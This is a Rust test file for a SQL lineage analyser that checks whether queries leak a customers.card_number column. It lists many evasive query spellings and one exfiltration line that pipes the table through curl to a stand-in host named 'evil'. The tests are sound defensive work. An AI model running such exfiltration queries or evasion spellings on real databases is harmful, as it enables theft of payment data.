//! Tests: a fake catalog and the spellings an attacker would use to read
//! `public.customers.card_number` under another name.

use std::collections::HashMap;

use super::*;

/// A catalog held in maps.
#[derive(Default)]
struct FakeCatalog {
    relations: HashMap<String, Vec<Relation>>,
    functions: HashMap<String, Vec<Function>>,
}

impl FakeCatalog {
    fn table(&mut self, schema: &str, name: &str, cols: &[&str]) {
        self.add(Relation {
            schema: schema.into(),
            name: name.into(),
            columns: cols.iter().map(|c| c.to_string()).collect(),
            kind: RelationKind::Table,
            view_definition: None,
        });
    }

    fn view(&mut self, name: &str, cols: &[&str], def: Option<&str>) {
        self.add(Relation {
            schema: "public".into(),
            name: name.into(),
            columns: cols.iter().map(|c| c.to_string()).collect(),
            kind: RelationKind::View,
            view_definition: def.map(str::to_string),
        });
    }

    fn add(&mut self, r: Relation) {
        self.relations.entry(r.name.clone()).or_default().push(r);
    }

    fn function(&mut self, schema: &str, name: &str, language: &str, body: Option<&str>) {
        self.functions
            .entry(name.into())
            .or_default()
            .push(Function {
                schema: schema.into(),
                language: language.into(),
                body: body.map(str::to_string),
            });
    }
}

impl Catalog for FakeCatalog {
    fn relations(&self, schema: Option<&str>, name: &str) -> Vec<Relation> {
        self.relations
            .get(name)
            .map(|rs| {
                rs.iter()
                    .filter(|r| schema.is_none_or(|s| s == r.schema))
                    .cloned()
                    .collect()
            })
            .unwrap_or_default()
    }

    fn functions(&self, schema: Option<&str>, name: &str) -> Vec<Function> {
        self.functions
            .get(name)
            .map(|fs| {
                fs.iter()
                    .filter(|f| schema.is_none_or(|s| s == f.schema))
                    .cloned()
                    .collect()
            })
            .unwrap_or_default()
    }
}

fn catalog() -> FakeCatalog {
    let mut c = FakeCatalog::default();
    c.table(
        "public",
        "customers",
        &["id", "name", "email", "card_number", "national_id"],
    );
    c.table(
        "public",
        "orders",
        &[
            "id",
            "customer_id",
            "product",
            "amount",
            "status",
            "created_at",
        ],
    );
    c.table("public", "audit", &["id", "note"]);
    c.table("public", "accounts", &["id", "card"]);
    c.table("other", "accounts", &["id", "pin"]);
    c.view(
        "cust_v",
        &["id", "card"],
        Some(" SELECT customers.id,\n    upper(customers.card_number) AS card\n   FROM customers;"),
    );
    c.view(
        "cust_vv",
        &["c2", "id"],
        Some("SELECT cust_v.card AS c2, cust_v.id FROM cust_v"),
    );
    c.view(
        "harmless_v",
        &["id", "name"],
        Some("SELECT id, name FROM customers"),
    );
    c.view("opaque_v", &["a", "b"], None);
    c.view("loop_v", &["x"], Some("SELECT x FROM loop_v"));
    c.view(
        "card_mv",
        &["card_number"],
        Some("SELECT card_number FROM customers"),
    );
    c.function(
        "public",
        "get_card",
        "sql",
        Some("SELECT card_number FROM customers WHERE id = $1"),
    );
    c.function(
        "public",
        "get_name",
        "sql",
        Some("SELECT name FROM customers WHERE id = $1"),
    );
    c.function("public", "ident", "sql", Some("SELECT $1"));
    c.function(
        "public",
        "all_customers",
        "sql",
        Some("SELECT * FROM customers"),
    );
    c.function(
        "public",
        "by_name",
        "sql",
        Some("SELECT email FROM customers WHERE name = by_name.n"),
    );
    c.function(
        "public",
        "leak",
        "plpgsql",
        Some("BEGIN RETURN (SELECT card_number FROM customers LIMIT 1); END"),
    );
    c.function("public", "hidden", "sql", None);
    c.function("pg_catalog", "upper", "internal", Some("upper"));
    c.function(
        "pg_catalog",
        "query_to_xml",
        "internal",
        Some("query_to_xml"),
    );
    c
}

fn card() -> SourceColumn {
    SourceColumn::new("public", "customers", "card_number")
}

/// The output lineage of a one-statement text (origins checked against
/// the rest of each lineage).
fn out(sql: &str) -> Vec<Lineage> {
    let mut all = output_lineage(sql, &catalog()).expect("parses");
    assert_eq!(all.len(), 1, "{sql}");
    let cols = all
        .remove(0)
        .unwrap_or_else(|| panic!("no output lineage for {sql}"));
    for c in &cols {
        assert_origin_backed(sql, c);
    }
    cols
}

/// Asserts that an origin, when set, is the value's one and only source.
fn assert_origin_backed(sql: &str, col: &Lineage) {
    if let Some(o) = &col.origin {
        assert!(
            !col.unknown && col.sources.len() == 1 && col.sources.contains(o),
            "{sql}: origin not backed by the lineage: {col:?}"
        );
    }
}

/// Asserts that output column `i` of `sql` comes from card_number (as a
/// listed source, not merely unknown).
fn assert_card(sql: &str, i: usize) {
    let cols = out(sql);
    let col = cols
        .get(i)
        .unwrap_or_else(|| panic!("{sql}: no column {i} in {cols:?}"));
    assert!(
        col.sources.contains(&card()),
        "{sql}: column {i} is {col:?}"
    );
}

/// Asserts that output column `i` of `sql` is known not to come from
/// card_number.
fn assert_clean(sql: &str, i: usize) {
    let cols = out(sql);
    let col = cols
        .get(i)
        .unwrap_or_else(|| panic!("{sql}: no column {i} in {cols:?}"));
    assert!(
        !col.unknown && !col.sources.contains(&card()),
        "{sql}: column {i} is {col:?}"
    );
}

fn flows(sql: &str) -> Vec<WriteFlow> {
    write_flows(sql, &catalog()).expect("parses")
}

/// Asserts a flow of card_number into `target`.
fn assert_card_flow(sql: &str, target: &str) {
    let f = flows(sql);
    assert!(
        f.iter()
            .any(|w| w.target == target && w.sources.contains(&card())),
        "{sql}: flows {f:?}"
    );
}

// --- aliases, functions, operators, casts -----------------------------------

#[test]
fn plain_and_aliased_columns() {
    assert_card("SELECT card_number FROM customers", 0);
    assert_card("SELECT card_number AS harmless FROM customers", 0);
    assert_card("SELECT c.card_number AS note FROM customers c", 0);
    assert_card("SELECT customers.card_number FROM customers", 0);
    assert_card(
        "SELECT public.customers.card_number FROM public.customers",
        0,
    );
    assert_card("SELECT \"card_number\" FROM \"customers\"", 0);
}

#[test]
fn string_functions() {
    for sql in [
        "SELECT reverse(card_number) FROM customers",
        "SELECT substr(card_number, 1, 4) FROM customers",
        "SELECT substring(card_number from 1 for 4) FROM customers",
        "SELECT ascii(substr(card_number, 1, 1)) FROM customers",
        "SELECT left(card_number, 6) || right(card_number, 4) FROM customers",
        "SELECT md5(card_number) FROM customers",
        "SELECT encode(card_number::bytea, 'base64') FROM customers",
        "SELECT translate(card_number, '0123456789', 'abcdefghij') FROM customers",
        "SELECT format('%s', card_number) FROM customers",
        "SELECT trim(both ' ' from card_number) FROM customers",
        "SELECT overlay(card_number placing 'x' from 1 for 1) FROM customers",
        "SELECT lpad(card_number, 30, '*') FROM customers",
        "SELECT split_part(card_number, '4', 2) FROM customers",
        "SELECT regexp_replace(card_number, '(.)', '\\1 ', 'g') FROM customers",
        "SELECT pg_catalog.upper(card_number) FROM customers",
    ] {
        assert_card(sql, 0);
    }
}

#[test]
fn operators_casts_and_conditionals() {
    for sql in [
        "SELECT 'x' || card_number FROM customers",
        "SELECT card_number::text FROM customers",
        "SELECT CAST(card_number AS varchar(40)) FROM customers",
        "SELECT card_number COLLATE \"C\" FROM customers",
        "SELECT CASE WHEN card_number LIKE '4%' THEN 'visa' ELSE 'other' END FROM customers",
        "SELECT CASE card_number WHEN '1' THEN 1 END FROM customers",
        "SELECT coalesce(NULL, card_number) FROM customers",
        "SELECT nullif(card_number, '') FROM customers",
        "SELECT greatest(card_number, '0') FROM customers",
        "SELECT card_number IS NULL FROM customers",
        "SELECT card_number BETWEEN '1' AND '5' FROM customers",
        "SELECT length(card_number) > 3 AND true FROM customers",
    ] {
        assert_card(sql, 0);
    }
}

#[test]
fn json_xml_arrays_and_rows() {
    for sql in [
        "SELECT to_json(card_number) FROM customers",
        "SELECT json_build_object('k', card_number) FROM customers",
        "SELECT JSON_OBJECT('k': card_number) FROM customers",
        "SELECT JSON_ARRAY(card_number) FROM customers",
        "SELECT xmlelement(name x, card_number) FROM customers",
        "SELECT ARRAY[card_number] FROM customers",
        "SELECT (ARRAY[card_number])[1] FROM customers",
        "SELECT ROW(id, card_number) FROM customers",
    ] {
        assert_card(sql, 0);
    }
}

#[test]
fn aggregates_and_windows() {
    for sql in [
        "SELECT string_agg(card_number, ',') FROM customers",
        "SELECT array_agg(card_number) FROM customers",
        "SELECT count(card_number) FROM customers",
        "SELECT max(card_number) FROM customers",
        "SELECT JSON_ARRAYAGG(card_number) FROM customers",
        "SELECT count(*) FILTER (WHERE card_number LIKE '4%') FROM customers",
        "SELECT string_agg(name, ',' ORDER BY card_number) FROM customers",
        "SELECT lag(card_number) OVER (ORDER BY id) FROM customers",
        "SELECT first_value(name) OVER w FROM customers WINDOW w AS (ORDER BY card_number)",
    ] {
        assert_card(sql, 0);
    }
}

// --- whole rows ---------------------------------------------------------------

#[test]
fn whole_row_references() {
    for sql in [
        "SELECT row_to_json(c) FROM customers c",
        "SELECT to_jsonb(c.*) FROM customers c",
        "SELECT c FROM customers c",
        "SELECT customers FROM customers",
        "SELECT ROW(c.*) FROM customers c",
        "SELECT json_agg(c) FROM customers c",
        "SELECT (c).card_number FROM customers c",
        "SELECT c2.x FROM (SELECT row_to_json(c) AS x FROM customers c) c2",
    ] {
        assert_card(sql, 0);
    }
}

#[test]
fn composite_star_expands() {
    let cols = out("SELECT (c).* FROM customers c");
    assert_eq!(cols.len(), 5);
    assert!(cols[3].sources.contains(&card()));
    assert!(!cols[0].sources.contains(&card()));
}

// --- subqueries, CTEs, set operations -------------------------------------------

#[test]
fn subqueries_in_from() {
    assert_card(
        "SELECT x FROM (SELECT card_number FROM customers) AS s(x)",
        0,
    );
    assert_card("SELECT s.card_number FROM (SELECT * FROM customers) s", 0);
    assert_card(
        "SELECT r FROM (SELECT reverse(card_number) FROM customers) s(r)",
        0,
    );
    assert_card(
        "SELECT s.reverse FROM (SELECT reverse(card_number) FROM customers) s",
        0,
    );
    assert_card(
        "SELECT * FROM (VALUES ((SELECT card_number FROM customers LIMIT 1))) v(x)",
        0,
    );
    assert_clean(
        "SELECT s.id FROM (SELECT id, card_number FROM customers) s",
        0,
    );
}

#[test]
fn lateral() {
    let sql = "SELECT o.id, l.x FROM orders o, \
               LATERAL (SELECT card_number AS x FROM customers c WHERE c.id = o.customer_id) l";
    assert_clean(sql, 0);
    assert_card(sql, 1);
    assert_card(
        "SELECT u FROM customers c, unnest(ARRAY[c.card_number]) u",
        0,
    );
    assert_card(
        "SELECT j.k FROM customers c CROSS JOIN LATERAL jsonb_each_text(to_jsonb(c)) AS j(k, v)",
        0,
    );
}

#[test]
fn scalar_and_correlated_subqueries() {
    let sql = "SELECT o.id, (SELECT card_number FROM customers c WHERE c.id = o.customer_id) \
               FROM orders o";
    assert_clean(sql, 0);
    assert_card(sql, 1);
    assert_card("SELECT (SELECT array_agg(card_number) FROM customers)", 0);
    assert_card("SELECT ARRAY(SELECT card_number FROM customers)", 0);
    assert_card(
        "SELECT (SELECT c.card_number FROM orders o WHERE o.customer_id = c.id LIMIT 1) \
         FROM customers c",
        0,
    );
    assert_card(
        "SELECT card_number IN (SELECT '4' FROM orders) FROM customers",
        0,
    );
}

#[test]
fn cte_chains() {
    assert_card(
        "WITH a AS (SELECT card_number AS x FROM customers), b AS (SELECT x AS y FROM a) \
         SELECT y FROM b",
        0,
    );
    assert_card(
        "WITH a(v) AS (SELECT card_number FROM customers) SELECT * FROM a",
        0,
    );
    assert_clean(
        "WITH a AS (SELECT id, card_number FROM customers) SELECT id FROM a",
        0,
    );
}

#[test]
fn recursive_cte_reaches_a_fixed_point() {
    let base = "WITH RECURSIVE r(n, v) AS (SELECT 1, ''::text UNION ALL \
                SELECT n + 1, (SELECT card_number FROM customers LIMIT 1) FROM r WHERE n < 3) ";
    assert_card(&format!("{base} SELECT v FROM r"), 0);
    assert_clean(&format!("{base} SELECT n FROM r"), 0);
    // The value travels through the recursion's columns.
    let swap = "WITH RECURSIVE r(a, b) AS (SELECT card_number, '' FROM customers UNION ALL \
                SELECT b, a FROM r WHERE false) SELECT b FROM r";
    assert_card(swap, 0);
}

#[test]
fn set_operations_union_every_branch() {
    assert_card(
        "SELECT product FROM orders UNION ALL SELECT card_number FROM customers",
        0,
    );
    assert_card(
        "SELECT product FROM orders INTERSECT SELECT card_number FROM customers",
        0,
    );
    assert_card(
        "SELECT 'x' UNION SELECT 'y' UNION SELECT card_number FROM customers",
        0,
    );
    assert_card(
        "(SELECT id, product FROM orders) EXCEPT (SELECT id, card_number FROM customers)",
        1,
    );
    assert_clean(
        "SELECT id, product FROM orders UNION SELECT id, card_number FROM customers",
        0,
    );
}

// --- views and functions ----------------------------------------------------------

#[test]
fn views_are_expanded() {
    assert_card("SELECT card FROM cust_v", 0);
    assert_clean("SELECT id FROM cust_v", 0);
    assert_card("SELECT c2 FROM cust_vv", 0);
    assert_card("SELECT v.c2 AS x FROM public.cust_vv v", 0);
    let cols = out("SELECT * FROM cust_vv");
    assert_eq!(cols.len(), 2);
    assert!(cols[0].sources.contains(&card()));
    assert_clean("SELECT * FROM harmless_v", 1);
    assert_card("SELECT card_number FROM card_mv", 0);
}

#[test]
fn view_without_definition_is_unknown_but_shaped() {
    let cols = out("SELECT * FROM opaque_v");
    assert_eq!(cols.len(), 2);
    assert!(cols.iter().all(|c| c.unknown));
}

#[test]
fn self_referencing_view_does_not_loop() {
    let cols = out("SELECT * FROM loop_v");
    assert_eq!(cols.len(), 1);
    assert!(cols[0].unknown);
}

#[test]
fn sql_functions_are_followed() {
    assert_card("SELECT get_card(id) FROM orders", 0);
    assert_card("SELECT public.get_card(1)", 0);
    assert_card("SELECT ident(card_number) FROM customers", 0);
    assert_clean("SELECT get_name(1)", 0);
    assert_clean("SELECT by_name('x')", 0);
    let cols = out("SELECT * FROM all_customers()");
    assert_eq!(cols.len(), 5);
    assert!(cols[3].sources.contains(&card()));
    assert_card("SELECT * FROM get_card(1)", 0);
    assert_card("SELECT g FROM get_card(1) g", 0);
    assert_card("SELECT x FROM get_card(1) AS t(x)", 0);
    assert_card("SELECT a.card_number FROM all_customers() a", 0);
}

#[test]
fn opaque_functions_are_unknown() {
    for sql in [
        "SELECT leak(id) FROM orders",
        "SELECT mystery(id) FROM orders",
        "SELECT hidden(1)",
        "SELECT query_to_xml('select card_number from customers', true, true, '')",
        "SELECT id OPERATOR(public.+) 1 FROM orders",
    ] {
        assert!(out(sql)[0].unknown, "{sql}");
    }
    assert_eq!(
        output_lineage("SELECT * FROM leak()", &catalog()).expect("parses"),
        vec![None]
    );
}

// --- star expansion, joins and counts -------------------------------------------

#[test]
fn table_and_star() {
    let cols = out("TABLE customers");
    assert_eq!(cols.len(), 5);
    assert!(cols[3].sources.contains(&card()));
    assert!(!cols[2].sources.contains(&card()));
    assert_eq!(out("SELECT *, * FROM orders").len(), 12);
    assert_eq!(out("SELECT c.*, o.id FROM customers c, orders o").len(), 6);
    assert!(out("SELECT * FROM orders")
        .iter()
        .all(|c| !c.sources.contains(&card())));
}

#[test]
fn join_using_merges_columns_first() {
    let cols = out("SELECT * FROM orders JOIN customers USING (id)");
    // id, then orders' 5 others, then customers' 4 others.
    assert_eq!(cols.len(), 10);
    assert!(cols[0].may_come_from("public", "orders", "id"));
    assert!(cols[0].may_come_from("public", "customers", "id"));
    assert!(cols[8].sources.contains(&card()));
    assert!(cols
        .iter()
        .enumerate()
        .all(|(i, c)| i == 8 || !c.sources.contains(&card())));
    let natural = out("SELECT * FROM orders NATURAL JOIN customers");
    assert_eq!(natural, cols);
    let on = out("SELECT * FROM orders o JOIN customers c ON c.id = o.customer_id");
    assert_eq!(on.len(), 11);
    assert!(on[9].sources.contains(&card()));
}

#[test]
fn join_aliases() {
    assert_card(
        "SELECT j.card_number FROM (customers JOIN orders USING (id)) AS j",
        0,
    );
    assert_clean("SELECT u.id FROM orders JOIN customers USING (id) AS u", 0);
    assert_card(
        "SELECT card_number FROM orders JOIN customers USING (id)",
        0,
    );
    assert_card(
        "SELECT x.card_number FROM orders LEFT JOIN customers x ON x.id = orders.customer_id",
        0,
    );
}

#[test]
fn output_counts() {
    assert_eq!(out("SELECT FROM customers").len(), 0);
    assert_eq!(out("SELECT 1, 2").len(), 2);
    assert_eq!(out("VALUES (1, 2, 3), (4, 5, 6)").len(), 3);
    let all = output_lineage(
        "SELECT 1; SELECT card_number FROM customers; INSERT INTO audit VALUES (1, 'x'); \
         SELECT * FROM nosuch; EXPLAIN SELECT 1",
        &catalog(),
    )
    .expect("parses");
    assert_eq!(all.len(), 5);
    assert_eq!(all[0].as_ref().map(Vec::len), Some(1));
    assert!(all[1].as_ref().expect("rows")[0].sources.contains(&card()));
    assert_eq!(all[2], None);
    assert_eq!(all[3], None);
    assert_eq!(all[4], None);
}

#[test]
fn unknown_relations() {
    assert!(out("SELECT x FROM nosuch")[0].unknown);
    assert!(
        out("SELECT c.id FROM customers c, nosuch n")[0]
            .sources
            .len()
            == 1
    );
    // An unqualified name may come from the unknown relation.
    assert!(out("SELECT id FROM customers, nosuch")[0].unknown);
}

#[test]
fn ambiguous_relations_are_unioned() {
    let cols = out("SELECT * FROM accounts");
    assert_eq!(cols.len(), 2);
    assert!(cols[1].may_come_from("public", "accounts", "card"));
    assert!(cols[1].may_come_from("other", "accounts", "pin"));
    assert!(out("SELECT pin FROM accounts")[0].may_come_from("other", "accounts", "pin"));
}

// --- negatives (documented non-coverage included) --------------------------------

#[test]
fn harmless_columns_stay_clean() {
    assert_clean("SELECT id, name FROM customers", 0);
    assert_clean("SELECT id, name FROM customers", 1);
    assert_clean("SELECT count(*) FROM customers", 0);
    assert_clean("SELECT 1", 0);
    assert_clean("SELECT $1::text", 0);
    assert_clean("SELECT now(), upper(name) FROM customers", 1);
    // Inference through WHERE and EXISTS is not covered.
    assert_clean("SELECT id FROM customers WHERE card_number LIKE '4%'", 0);
    assert_clean(
        "SELECT EXISTS (SELECT 1 FROM customers WHERE card_number LIKE '4%')",
        0,
    );
    assert_clean(
        "SELECT o.product FROM orders o JOIN customers c ON c.card_number = o.product",
        0,
    );
}

// --- RETURNING ------------------------------------------------------------------------

#[test]
fn returning() {
    assert_card(
        "UPDATE customers SET name = 'x' WHERE id = 1 RETURNING card_number AS n",
        0,
    );
    assert_eq!(out("DELETE FROM customers RETURNING *").len(), 5);
    assert_card("DELETE FROM customers RETURNING *", 3);
    assert_card(
        "UPDATE orders SET product = c.card_number FROM customers c \
         WHERE c.id = orders.customer_id RETURNING orders.product",
        0,
    );
    assert_card(
        "UPDATE orders SET product = c.card_number FROM customers c RETURNING new.product",
        0,
    );
    assert_eq!(
        out("UPDATE orders SET status = 'x' FROM customers c RETURNING *").len(),
        11
    );
    assert_card(
        "INSERT INTO orders (product) SELECT card_number FROM customers RETURNING product",
        0,
    );
    assert_clean(
        "INSERT INTO orders (product) SELECT card_number FROM customers RETURNING id",
        0,
    );
    assert_card(
        "INSERT INTO audit SELECT id, card_number FROM customers RETURNING note",
        0,
    );
}

// --- writes -------------------------------------------------------------------------------

#[test]
fn insert_select_and_values() {
    assert_card_flow(
        "INSERT INTO audit SELECT id, card_number FROM customers",
        "public.audit",
    );
    assert_card_flow(
        "INSERT INTO audit (note) VALUES ((SELECT card_number FROM customers LIMIT 1))",
        "public.audit",
    );
    assert_card_flow(
        "INSERT INTO audit (id, note) VALUES (1, 'x') ON CONFLICT (id) \
         DO UPDATE SET note = (SELECT card_number FROM customers LIMIT 1)",
        "public.audit",
    );
    let f = flows("INSERT INTO audit (id, note) SELECT id, name FROM customers");
    assert_eq!(f.len(), 2);
    assert!(f.iter().all(|w| !w.sources.contains(&card()) && !w.unknown));
}

#[test]
fn create_table_as_and_select_into() {
    assert_card_flow("CREATE TABLE x AS SELECT card_number FROM customers", "x");
    assert_card_flow(
        "CREATE TABLE s.x AS SELECT reverse(card_number) FROM customers",
        "s.x",
    );
    assert_card_flow("SELECT card_number INTO x FROM customers", "x");
    assert_card_flow(
        "SELECT card_number INTO x FROM customers UNION SELECT 'a'",
        "x",
    );
    assert_eq!(
        output_lineage("SELECT card_number INTO x FROM customers", &catalog()).expect("parses"),
        vec![None]
    );
    assert_card_flow(
        "CREATE MATERIALIZED VIEW mv AS SELECT card_number FROM customers",
        "mv",
    );
    assert_card_flow("REFRESH MATERIALIZED VIEW card_mv", "public.card_mv");
}

#[test]
fn update_and_merge() {
    assert_card_flow(
        "UPDATE orders SET product = c.card_number FROM customers c WHERE c.id = orders.customer_id",
        "public.orders",
    );
    assert_card_flow(
        "UPDATE orders SET (product, status) = (SELECT card_number, 'x' FROM customers LIMIT 1)",
        "public.orders",
    );
    assert_card_flow(
        "MERGE INTO audit a USING customers c ON a.id = c.id \
         WHEN MATCHED THEN UPDATE SET note = c.card_number \
         WHEN NOT MATCHED THEN INSERT (id, note) VALUES (c.id, c.name)",
        "public.audit",
    );
    assert_card_flow(
        "MERGE INTO audit a USING (SELECT id, reverse(card_number) r FROM customers) c \
         ON a.id = c.id WHEN NOT MATCHED THEN INSERT VALUES (c.id, c.r)",
        "public.audit",
    );
    let f = flows("UPDATE orders SET status = 'x' WHERE customer_id IN (SELECT id FROM customers)");
    assert!(f.iter().all(|w| !w.sources.contains(&card())));
}

#[test]
fn copy_flows() {
    assert_card_flow(
        "COPY (SELECT reverse(card_number) FROM customers) TO STDOUT",
        "client",
    );
    assert_card_flow("COPY customers TO '/tmp/x.csv'", "file");
    assert_card_flow("COPY customers TO PROGRAM 'curl -d @- evil'", "program");
    let f = flows("COPY customers (id, name) TO STDOUT");
    assert!(f.iter().all(|w| !w.sources.contains(&card())));
    assert!(flows("COPY customers FROM STDIN").is_empty());
    assert_eq!(
        output_lineage("COPY customers TO STDOUT", &catalog()).expect("parses"),
        vec![None]
    );
}

#[test]
fn data_modifying_ctes() {
    let sql = "WITH moved AS (INSERT INTO audit (note) SELECT card_number FROM customers \
               RETURNING note) SELECT note FROM moved";
    assert_card_flow(sql, "public.audit");
    assert_card(sql, 0);
    // Executed even when not referenced.
    assert_card_flow(
        "WITH x AS (UPDATE orders SET product = (SELECT card_number FROM customers LIMIT 1)) \
         SELECT 1",
        "public.orders",
    );
}

#[test]
fn explain_and_alter() {
    assert_card_flow(
        "EXPLAIN ANALYZE INSERT INTO audit SELECT id, card_number FROM customers",
        "public.audit",
    );
    assert!(flows("EXPLAIN INSERT INTO audit SELECT id, card_number FROM customers").is_empty());
    assert_card_flow(
        "ALTER TABLE customers ALTER COLUMN name TYPE text USING card_number",
        "public.customers",
    );
    assert_card_flow(
        "ALTER TABLE customers ADD COLUMN leak text GENERATED ALWAYS AS (reverse(card_number)) STORED",
        "public.customers",
    );
}

#[test]
fn sql_function_writes_are_seen() {
    let mut c = catalog();
    c.function(
        "public",
        "stash",
        "sql",
        Some("INSERT INTO audit (note) SELECT card_number FROM customers; SELECT 1"),
    );
    let f = write_flows("SELECT stash()", &c).expect("parses");
    assert!(f
        .iter()
        .any(|w| w.target == "public.audit" && w.sources.contains(&card())));
}

// --- robustness ------------------------------------------------------------------------

#[test]
fn parse_errors_are_errors() {
    assert!(matches!(
        output_lineage("SELEC card_number", &catalog()),
        Err(LineageError::Parse(_))
    ));
    assert!(matches!(
        output_lineage("SELECT 'a\0b'", &catalog()),
        Err(LineageError::Parse(_))
    ));
}

/// Runs `f` on a thread with a 2 MiB stack (a tokio worker's).
fn on_small_stack(f: impl FnOnce() + Send + 'static) {
    on_stack(2 << 20, f);
}

/// Runs `f` on a thread with a `bytes` stack.
fn on_stack(bytes: usize, f: impl FnOnce() + Send + 'static) {
    std::thread::Builder::new()
        .stack_size(bytes)
        .spawn(f)
        .expect("thread")
        .join()
        .expect("no stack overflow or panic");
}

/// Stack for texts nested close to `pg_query`'s decoding limit: in a debug
/// build its (generic, so unoptimized here) decoder alone needs about
/// 45 KiB per level; a release build needs under 400 KiB in all.
const DEEP_PARSE_STACK: usize = 16 << 20;

#[test]
fn deep_nesting_is_bounded() {
    on_stack(DEEP_PARSE_STACK, || {
        let nest = |depth: usize| {
            let mut sql = "SELECT card_number FROM customers".to_string();
            for _ in 0..depth {
                sql = format!("SELECT (SELECT ({sql}))");
            }
            output_lineage(&sql, &catalog())
        };
        let ok = nest(6).expect("decodes");
        assert!(ok[0].as_ref().expect("rows")[0].sources.contains(&card()));
        match nest(40) {
            Ok(r) => {
                let col = &r[0].as_ref().expect("rows")[0];
                assert!(col.unknown || col.sources.contains(&card()));
            }
            Err(e) => assert!(matches!(e, LineageError::TooDeep(_)), "{e}"),
        }
        let mut expr = "card_number".to_string();
        for _ in 0..45 {
            expr = format!("reverse({expr}) || (1 + 1)::text");
        }
        match output_lineage(&format!("SELECT {expr} FROM customers"), &catalog()) {
            Ok(r) => {
                let col = &r[0].as_ref().expect("rows")[0];
                assert!(col.unknown || col.sources.contains(&card()));
            }
            Err(e) => assert!(matches!(e, LineageError::TooDeep(_)), "{e}"),
        }
    });
}

#[test]
fn deep_view_chains_are_bounded() {
    on_small_stack(|| {
        let mut c = catalog();
        c.view(
            "chain0",
            &["v"],
            Some("SELECT reverse(card_number) AS v FROM customers"),
        );
        for i in 1..60 {
            let def = format!("SELECT (SELECT reverse(v) FROM chain{}) AS v", i - 1);
            c.view(&format!("chain{i}"), &["v"], Some(&def));
        }
        let near = output_lineage("SELECT v FROM chain5", &c).expect("parses");
        assert!(near[0].as_ref().expect("rows")[0].sources.contains(&card()));
        let far = output_lineage("SELECT v FROM chain59", &c).expect("parses");
        let col = &far[0].as_ref().expect("rows")[0];
        assert!(col.unknown || col.sources.contains(&card()));
    });
}

#[test]
fn exponential_function_fanout_is_bounded() {
    on_small_stack(|| {
        let mut c = catalog();
        c.function(
            "public",
            "f0",
            "sql",
            Some("SELECT card_number FROM customers"),
        );
        for i in 1..30 {
            let body = format!("SELECT f{p}($1) || f{p}($1) || f{p}($1)", p = i - 1);
            c.function("public", &format!("f{i}"), "sql", Some(&body));
        }
        let r = output_lineage("SELECT f29(1)", &c).expect("parses");
        let col = &r[0].as_ref().expect("rows")[0];
        assert!(col.unknown || col.sources.contains(&card()));
    });
}

#[test]
fn insert_values_assign_by_position() {
    let cols = out("INSERT INTO orders VALUES (1, 2, 'x') RETURNING status, product");
    assert!(!cols[0].unknown && !cols[1].unknown);
    assert_card(
        "INSERT INTO orders VALUES (1, 2, (SELECT card_number FROM customers LIMIT 1)) \
         RETURNING product",
        0,
    );
    assert_clean(
        "INSERT INTO orders VALUES (1, 2, (SELECT card_number FROM customers LIMIT 1)) \
         RETURNING status",
        0,
    );
}

#[test]
fn system_columns_carry_no_data() {
    assert_clean("SELECT ctid, c.xmin, tableoid FROM customers c", 0);
    assert_clean("SELECT ctid, c.xmin, tableoid FROM customers c", 1);
}

#[test]
fn writes_from_functions_called_in_filters() {
    let mut c = catalog();
    c.function(
        "public",
        "stash",
        "sql",
        Some("INSERT INTO audit (note) SELECT card_number FROM customers RETURNING 1"),
    );
    for sql in [
        "SELECT id FROM orders WHERE stash() = 1",
        "SELECT o.id FROM orders o JOIN customers c ON stash() = 1",
        "DELETE FROM orders WHERE stash() = 1",
    ] {
        let f = write_flows(sql, &c).expect("parses");
        assert!(
            f.iter()
                .any(|w| w.target == "public.audit" && w.sources.contains(&card())),
            "{sql}: {f:?}"
        );
    }
}

#[test]
fn too_deep_for_the_decoder_is_its_own_error() {
    on_stack(DEEP_PARSE_STACK, || {
        let mut expr = "card_number".to_string();
        for _ in 0..200 {
            expr = format!("reverse({expr})");
        }
        let r = output_lineage(&format!("SELECT {expr} FROM customers"), &catalog());
        assert!(matches!(r, Err(LineageError::TooDeep(_))), "{r:?}");
    });
}

#[test]
fn catalog_is_asked_once_per_name() {
    struct Counting(FakeCatalog, std::cell::Cell<usize>);
    impl Catalog for Counting {
        fn relations(&self, schema: Option<&str>, name: &str) -> Vec<Relation> {
            self.1.set(self.1.get() + 1);
            self.0.relations(schema, name)
        }
        fn functions(&self, schema: Option<&str>, name: &str) -> Vec<Function> {
            self.1.set(self.1.get() + 1);
            self.0.functions(schema, name)
        }
    }
    let c = Counting(catalog(), std::cell::Cell::new(0));
    let sql = "SELECT get_card(1), get_card(2), c.id FROM customers c, customers d, cust_v";
    output_lineage(sql, &c).expect("parses");
    // get_card, customers (also from the function body and the view), cust_v, upper.
    assert_eq!(c.1.get(), 4);
}

#[test]
fn flows_name_the_written_column() {
    let f = flows("UPDATE customers SET name = card_number, email = 'x'");
    let into = |col: &str| {
        f.iter()
            .find(|w| w.target == "public.customers" && w.column.as_deref() == Some(col))
            .cloned()
            .unwrap_or_else(|| panic!("no flow into {col}: {f:?}"))
    };
    assert!(into("name").sources.contains(&card()));
    assert!(into("email").sources.is_empty());
    let f = flows("INSERT INTO audit (note, id) SELECT card_number, id FROM customers");
    assert!(f
        .iter()
        .any(|w| w.column.as_deref() == Some("note") && w.sources.contains(&card())));
    assert!(f
        .iter()
        .any(|w| w.column.as_deref() == Some("id") && !w.sources.contains(&card())));
    let f = flows("INSERT INTO audit SELECT id, card_number FROM customers");
    assert!(f
        .iter()
        .any(|w| w.column.as_deref() == Some("note") && w.sources.contains(&card())));
    let f = flows("CREATE TABLE x (a, b) AS SELECT id, card_number FROM customers");
    assert!(f.iter().any(|w| w.target == "x"
        && w.column.as_deref() == Some("b")
        && w.sources.contains(&card())));
    let f = flows("ALTER TABLE customers ALTER COLUMN name TYPE text USING card_number");
    assert_eq!(f[0].column.as_deref(), Some("name"));
}

#[test]
fn side_channels_are_flows_or_unknown() {
    assert_card_flow(
        "SELECT pg_notify('ch', card_number) FROM customers",
        "notify",
    );
    assert_card_flow(
        "SELECT set_config('my.v', card_number, false) FROM customers",
        "setting",
    );
    assert_card_flow(
        "SELECT lo_from_bytea(0, card_number::bytea) FROM customers",
        "large_object",
    );
    assert!(out("SELECT current_setting('my.v')")[0].unknown);
    assert!(out("SELECT lo_get(1234)")[0].unknown);
}

#[test]
fn alias_column_lists_rename() {
    assert_card("SELECT d FROM customers AS c(a, b, c, d)", 0);
    assert_clean("SELECT a FROM customers AS c(a, b, c, d)", 0);
    // The old name is gone; the reference is then at worst unknown.
    let col = &out("SELECT c.card_number FROM customers AS c(a, b, c, d, e)")[0];
    assert!(col.unknown || col.sources.contains(&card()));
